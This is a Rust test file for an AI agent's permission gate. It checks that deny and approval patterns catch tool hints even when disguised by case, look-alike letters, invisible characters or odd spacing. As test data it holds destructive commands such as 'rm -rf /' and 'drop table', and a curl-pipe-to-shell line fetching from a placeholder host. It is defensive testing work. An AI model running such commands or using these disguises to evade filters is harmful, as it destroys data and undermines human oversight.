//! Patterns: what a restricting one names is never missed, however it is written; an approving one vouches for no more than it names.

use super::{ApprovingPatterns, BadPattern, HintTexts, RestrictingPatterns};
use crate::agents::folded_text::FoldedText;
use crate::agents::look_alikes::alike;
use crate::agents::settings::{DEFAULT_AUTO_APPROVE, DEFAULT_DENY, DEFAULT_REQUIRES_APPROVAL};
use proptest::prelude::{Strategy, prop, proptest};

fn list(patterns: &[&str]) -> RestrictingPatterns {
    RestrictingPatterns::new(&patterns.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>()).unwrap()
}

fn found(patterns: &RestrictingPatterns, hint: &str) -> Option<String> {
    patterns.first_match(&HintTexts::of(&FoldedText::of(hint))).map(str::to_owned)
}

/// C8.7.2-8 C8.7.2-12 C8.7.2-13 X-loop-5 X-gate-10: the reference lists on free text.
#[test]
fn the_reference_lists() {
    let deny = list(&DEFAULT_DENY);
    for (hint, pattern) in [
        ("Run `rm -rf /srv`", "rm -rf*"),
        ("executing shell command: rm  -rf /", "rm -rf*"),
        ("please DROP  TABLE x", "drop_*"),
        ("call dropTable on users", "drop_*"),
        ("delete_all_users", "delete_all*"),
        ("deleteAll users", "delete_all*"),
        ("deleteall", "delete_all*"),
        ("d r o p  t a b l e users", "drop_*"),
        ("dr0p_table", "drop_*"),
        ("restart web_production", "*_production*"),
    ] {
        assert_eq!(found(&deny, hint).as_deref(), Some(pattern), "{hint}");
    }
    for hint in ["delete_user", "open the droplet", "a dropdown menu", "read the raindrops file", "farm -rf"]
    {
        assert_eq!(found(&deny, hint), None, "{hint}");
    }
    let approval = list(&DEFAULT_REQUIRES_APPROVAL);
    for hint in
        ["delete_user", "please delete user 4", "git push origin main", "enforce it", "deploy-service now"]
    {
        assert!(found(&approval, hint).is_some(), "{hint}");
    }
    assert_eq!(found(&approval, "undeleted items"), None);
}

#[test]
fn stars_in_the_middle() {
    let patterns = list(&["curl * | sh*", "send * to press"]);
    assert!(found(&patterns, "curl -s http://x.example/a | sh").is_some());
    assert!(found(&patterns, "please send the list to press today").is_some());
    assert_eq!(found(&patterns, "curl -s http://x.example/a"), None);
    assert!(found(&list(&["*"]), "anything").is_some());
}

/// C8.7.2-11: the whole hint, from its start, as it is written; what a star covers is given back.
#[test]
fn what_is_vouched_for() {
    let patterns: Vec<String> = DEFAULT_AUTO_APPROVE.iter().map(|text| (*text).to_owned()).collect();
    let patterns = ApprovingPatterns::new(&patterns).unwrap();
    let covered = |hint: &str| patterns.first_match(&FoldedText::of(hint)).map(|approved| approved.beside);
    assert_eq!(covered("read_file notes.md").as_deref(), Some("file notes md"));
    assert_eq!(covered("listUsers").as_deref(), Some("users"));
    assert_eq!(covered("please read_file notes.md"), None);
    assert_eq!(covered("ready to go"), None);
}

#[test]
fn lists_that_cannot_be_used() {
    let bad = |text: &str| RestrictingPatterns::new(&[text.to_owned()]).err();
    assert_eq!(bad("--"), Some(BadPattern::Empty("--".to_owned())));
    assert_eq!(bad(&"a".repeat(501)), Some(BadPattern::TooLong));
    assert_eq!(RestrictingPatterns::new(&vec!["a".to_owned(); 10_001]).err(), Some(BadPattern::TooMany));
}

/// A letter in another case, a look-alike, or with something unseen behind it.
fn disguised(letter: char) -> impl Strategy<Value = String> {
    let forms: Vec<String> = std::iter::once(letter.to_string())
        .chain(std::iter::once(letter.to_uppercase().collect()))
        .chain(alike(letter).chars().map(String::from))
        .chain(
            ["\u{200b}", "\u{200d}", "\u{ad}", "\u{202e}", "\u{301}"]
                .iter()
                .map(|hidden| format!("{letter}{hidden}")),
        )
        .collect();
    prop::sample::select(forms)
}

fn separators() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop::sample::select(vec![" ", "_", "-", "\t", "\u{2014}", "\u{a0}", "  ", "."]),
        1..4,
    )
    .prop_map(|parts| parts.concat())
}

fn written(word: &'static str) -> impl Strategy<Value = String> {
    word.chars().map(disguised).collect::<Vec<_>>().prop_map(|letters| letters.concat())
}

proptest! {
    /// Whatever the case, the spacing, the look-alikes and the signs that nobody sees: what a pattern names is found, also among a thousand others.
    #[test]
    fn nothing_that_is_named_is_missed(
        first in written("delete"),
        between in separators(),
        second in written("all"),
        before in "(please |run: |\\(|`)?",
    ) {
        let mut all: Vec<String> = (0..999).map(|number| format!("never_{number}_*")).collect();
        all.push("delete_all*".to_owned());
        let patterns = RestrictingPatterns::new(&all).unwrap();
        let hint = format!("{before}{first}{between}{second} users");
        assert_eq!(found(&patterns, &hint).as_deref(), Some("delete_all*"), "{hint:?}");
    }
}
